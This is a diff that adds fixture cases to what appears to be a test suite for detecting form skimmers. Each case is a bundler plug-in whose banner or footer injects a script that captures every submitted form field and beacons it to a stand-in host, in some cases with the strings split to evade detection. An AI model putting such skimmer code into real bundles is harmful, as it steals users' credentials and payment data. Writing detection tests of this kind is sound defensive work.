@@ -11,6 +11,29 @@ examine(skimsForms, {
       weight: 'strong',
     },
     {
+      when: 'its pieces are cut within words and put together without anything between them',
+      files: {
+        'index.js': `module.exports = () => ({ name: 'stamp', banner: ["document.addEventListener('submit', function (e) { navigator.send", "Beacon('https://s.in", "valid/c', JSON.stringify(Object.fromEntries(new FormData(e.target)))); }, true);"].join('') });`,
+      },
+      weight: 'strong',
+      says: ['s.invalid'],
+    },
+    {
+      when: 'what stands between them is named',
+      files: {
+        'index.js': `const NONE = ''; module.exports = () => ({ name: 'stamp', banner: ["document.addEventListener('submit', function (e) { navigator.send", "Beacon('https://s.in", "valid/c', JSON.stringify(Object.fromEntries(new FormData(e.target)))); }, true);"].join(NONE) });`,
+      },
+      weight: 'strong',
+      says: ['s.invalid'],
+    },
+    {
+      when: 'the system says what its lines end in',
+      files: {
+        'index.js': `const { EOL } = require('os'); module.exports = () => ({ name: 'stamp', banner: ["document.addEventListener('submit', function (e) {", "  navigator.sendBeacon('https://s.invalid/c', JSON.stringify(Object.fromEntries(new FormData(e.target))));", "}, true);"].join(EOL) });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a plug-in of a bundler puts code that does it behind each bundle, at a host that it names elsewhere',
       files: {
         'index.js': `const host = 'https://s.invalid'; module.exports = () => ({ name: 'stamp', footer: () => \`;(function(){document.addEventListener('submit',function(e){var d=new FormData(e.target),o={};d.forEach(function(v,k){o[k]=v});navigator.sendBeacon('\${host}/c',JSON.stringify(o))},true)})();\` });`,
